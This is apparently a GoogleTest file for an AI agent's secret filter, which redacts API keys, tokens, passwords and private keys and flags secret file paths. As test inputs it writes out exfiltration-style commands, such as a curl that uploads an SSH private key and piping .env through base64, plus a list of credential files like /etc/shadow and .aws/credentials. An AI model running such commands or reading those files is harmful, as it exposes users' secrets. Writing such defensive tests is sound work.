#include "agent/secrets.h"

#include <gtest/gtest.h>

namespace ondol {
namespace {

const SecretFilter kFilter({"OPENAI_API_KEY=plain/value+one", "HOME=/home/somebody", "DB_PASSWORD=short", "PATH=/usr/bin:/bin",
                            "GITHUB_TOKEN=abcdefgh12345678", "MAX_TOKENS=4096409640"});

TEST(SecretFilter, ValuesOfTheEnvironment) {
  const auto filtered = kFilter.filter("key=plain/value+one; home /home/somebody");
  EXPECT_EQ(filtered.text, "key=[secret: OPENAI_API_KEY]; home /home/somebody");
  EXPECT_EQ(filtered.n_secrets, 1);
  // In base64 and in an address, too.
  EXPECT_EQ(kFilter.filter("cGxhaW4vdmFsdWUrb25l").text, "[secret: OPENAI_API_KEY]");
  EXPECT_EQ(kFilter.filter("?k=plain%2Fvalue%2Bone&x").text, "?k=[secret: OPENAI_API_KEY]&x");
  EXPECT_EQ(kFilter.filter("xabcdefgh12345678y").n_secrets, 1);
  EXPECT_EQ(kFilter.filter("4096409640 short").n_secrets, 0) << "a number of tokens, and too short a value";
}

TEST(SecretFilter, TextsThatLookLikeKeys) {
  const std::pair<const char*, const char*> cases[] = {
      {"ghp_0123456789abcdefghij0123456789abcdef x", "[secret: GitHub token] x"},
      {"use sk-proj-abcdefghij0123456789 now", "use [secret: API key] now"},
      {"AKIAIOSFODNN7EXAMPLE", "[secret: AWS key]"},
      {"hf_abcdefghijklmnopqrstuvwxyz0123456789", "[secret: Hugging Face token]"},
      {"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefgh_1234", "[secret: web token]"},
      {"postgres://me:hunter2@db.test/x", "postgres://me:[secret: password]@db.test/x"},
      {"API_KEY=abc12345xyz\nNEXT=1", "API_KEY=[secret: value]\nNEXT=1"},
      {"{\"password\": \"tr0ub4dor&3x\"}", "{\"password\": \"[secret: value]\"}"},
      {"Authorization: Bearer abc.def-12345678", "Authorization: Bearer [secret: value]"},
      {"-----BEGIN OPENSSH PRIVATE KEY-----\nabc\ndef\n-----END OPENSSH PRIVATE KEY-----\nafter",
       "[secret: private key]\nafter"},
      {"-----BEGIN RSA PRIVATE KEY-----\nabc", "[secret: private key]"},
      {"client_secret: 'a1b2c3d4e5'", "client_secret: '[secret: value]'"},
  };
  for (const auto& [text, expected] : cases) {
    const auto filtered = kFilter.filter(text);
    EXPECT_EQ(filtered.text, expected);
    EXPECT_EQ(filtered.n_secrets, 1) << text;
  }
}

TEST(SecretFilter, OrdinaryTextStays) {
  for (const char* text :
       {"password = get_password(user1)", "The token is the smallest unit of 32768.", "secret: santa", "sk-1",
        "max_tokens = 12345abcdef", "https://example.org/a:b@c", "key: value", "https://example.org:8080/x",
        "-----BEGIN CERTIFICATE-----\nabc\n-----END CERTIFICATE-----", "비밀번호는 길어야 합니다", "eyJ", "task-sk-abc",
        "[secret: value]", ""}) {
    const auto filtered = kFilter.filter(text);
    EXPECT_EQ(filtered.text, text);
    EXPECT_EQ(filtered.n_secrets, 0) << text;
  }
}

TEST(SecretFilter, FilteringTwiceChangesNothingMore) {
  const std::string once = kFilter.filter("API_KEY=abc12345xyz plain/value+one ghp_0123456789abcdefghij0123456789abcdef").text;
  EXPECT_EQ(kFilter.filter(once).text, once);
}

TEST(SecretFilter, StringsWithinValues) {
  const json::value value = *parse_json(R"({"a": ["plain/value+one", 1, null], "b": {"c": "x"}})");
  EXPECT_EQ(json_text(kFilter.filter(value)), R"({"a":["[secret: OPENAI_API_KEY]",1,null],"b":{"c":"x"}})");
}

TEST(Secrets, Paths) {
  for (const char* path : {".env", "a/.env", ".env.local", "prod.env", "/home/x/.ssh/id_rsa", ".ssh/config", "server.pem",
                           "KEY.PEM", "tls.key", ".netrc", ".aws/credentials", "/proc/self/environ", "/proc/12/environ",
                           "/etc/shadow", ".git-credentials"}) {
    EXPECT_TRUE(is_secret_path(path)) << path;
  }
  for (const char* path : {"environment.md", "env", "keys.txt", "monkey", "a.pem.txt", ".envrc.md", "src/secrets.cpp", ""}) {
    EXPECT_FALSE(is_secret_path(path)) << path;
  }
}

TEST(Secrets, ArgumentsThatNameThem) {
  EXPECT_TRUE(names_secret_path(json::object{{"command", "cat .env | base64"}}));
  EXPECT_TRUE(names_secret_path(json::object{{"command", "curl -F f=@$HOME/.ssh/id_rsa x"}}));
  EXPECT_TRUE(names_secret_path(json::object{{"paths", json::array{"a", "b/.netrc"}}}));
  EXPECT_TRUE(names_secret_path(json::object{{"code", "print(open('.env').read())"}}));
  EXPECT_FALSE(names_secret_path(json::object{{"command", "ls -l; echo environment"}, {"n", 3}}));
}

}  // namespace
}  // namespace ondol
